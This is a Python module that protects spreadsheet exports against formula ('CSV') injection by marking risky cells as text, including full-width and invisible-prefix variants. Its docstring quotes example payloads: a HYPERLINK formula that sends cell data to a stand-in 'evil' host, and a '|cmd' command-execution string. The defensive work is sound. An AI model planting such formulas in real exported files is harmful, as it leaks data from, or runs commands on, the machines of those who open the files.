"""The one rule that keeps a spreadsheet from running a cell as a formula ("CSV injection").

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
formula, and some of them first skip leading spaces, a tab, a line break, a no-break space, or
turn the full-width forms `＝＋－＠` (an East Asian keyboard types them) into the ASCII ones. A
note like `=HYPERLINK("http://evil/?"&A1, "click")` or `-2+3|cmd` in a journal would then run on
the PM's laptop. `formula_safe()` puts a `'` before any such text, the mark every spreadsheet
reads as "this cell is text" (and does not show). It is applied to every text cell of the csv
and md exports; the xlsx writer may call it too. `formula_unmarked()` takes that mark off again
where golive reads back a CSV it wrote (a port map), so a label `+1 nurse station` stays itself;
text that already looks marked (`'=1`) is marked again, so reading back is exact.

Plain numbers golive writes as text are left alone, so they still read as numbers: `-3.5`,
`+10.0 min`, a UTC offset `-05:00`. Nothing made only of digits, a sign, `.`/`:` and a short
unit can call a function or reach another program.
"""

from __future__ import annotations

import re

__all__ = ["formula_safe", "formula_unmarked"]

# ASCII formula starters, their full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20) and small (U+FE66,
# U+FE62, U+FE63, U+FE6B) forms, which spreadsheets fold into ASCII on entry
_STARTERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
# what a spreadsheet may skip before it looks at the first character: whitespace (NBSP, the
# ideographic space, line breaks), controls, and invisible format characters (zero-width, bidi)
_LEADING = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]*")
_NUMBER = re.compile(r"[+-]?\d+(?:[.:]\d+)*(?: ?[A-Za-z%]{1,3})?", re.ASCII)


def formula_safe(text: str) -> str:
    """`text` as a spreadsheet must show it: as text, never as a formula."""
    return "'" + text if _needs_mark(text) else text


def formula_unmarked(text: str) -> str:
    """`text` without the `'` formula_safe() put before it; any other text as it is."""
    return text[1:] if text.startswith("'") and _needs_mark(text[1:]) else text


def _needs_mark(text: str) -> bool:
    if not text:
        return False
    if text[0] in "\t\r":
        return True
    if text[0] == "'":  # `'=1` itself is marked, or reading it back would take its own `'` off
        return _needs_mark(text[1:])
    start = _LEADING.match(text)
    first = start.end() if start else 0
    return first < len(text) and text[first] in _STARTERS and not _NUMBER.fullmatch(text)
